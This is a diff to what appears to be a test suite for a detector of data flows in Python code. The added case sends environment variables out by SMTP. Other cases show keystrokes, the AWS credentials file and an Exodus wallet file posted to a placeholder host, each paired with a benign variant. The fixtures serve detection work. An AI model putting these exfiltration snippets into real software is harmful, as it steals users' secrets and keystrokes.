@@ -31,6 +31,7 @@ def flows(source: str) -> set[tuple[str, str]]:
         ("from pynput import keyboard\ndef p(k):\n    requests.post(u, data=str(k))\nkeyboard.Listener(on_press=p)", ("keys", "network"), "import threading\ndef p(k):\n    requests.post(u, data=str(k))\nthreading.Thread(target=p)"),
         ("from cryptography.fernet import Fernet\nFernet(k).encrypt(open(q, 'rb').read())", ("file", "cipher"), "from cryptography.fernet import Fernet\nopen(q, 'rb').read()\nFernet(k).encrypt(b'a')"),
         ("import site\nopen(site.getsitepackages()[0] + '/a.py', 'w')", ("folder", "open"), "import site\nsite.getsitepackages()\nopen('a.py', 'w')"),
+        ("import smtplib\nm = smtplib.SMTP_SSL(h, 465)\nm.send_message(dict(os.environ))", ("environment", "network"), "import smtplib\nm = smtplib.SMTP_SSL(h, 465)\nm.send_message('a')\ndict(os.environ)"),
         ("requests.get(u + os.getcwd())", ("folder", "network"), "requests.get(u + str(len(os.getcwd())))"),
         ("p = os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet')\nrequests.post(u, data=open(p, 'rb').read())", ("credential", "network"), "p = os.path.join(os.getenv('APPDATA'), 'app.log')\nrequests.post(u, data=open(p, 'rb').read())"),
         ("from pathlib import Path\nrequests.post(u, data=(Path.home() / '.aws' / 'credentials').read_text())", ("credential", "network"), "from pathlib import Path\nrequests.post(u, data=(Path.home() / 'x').read_text())"),
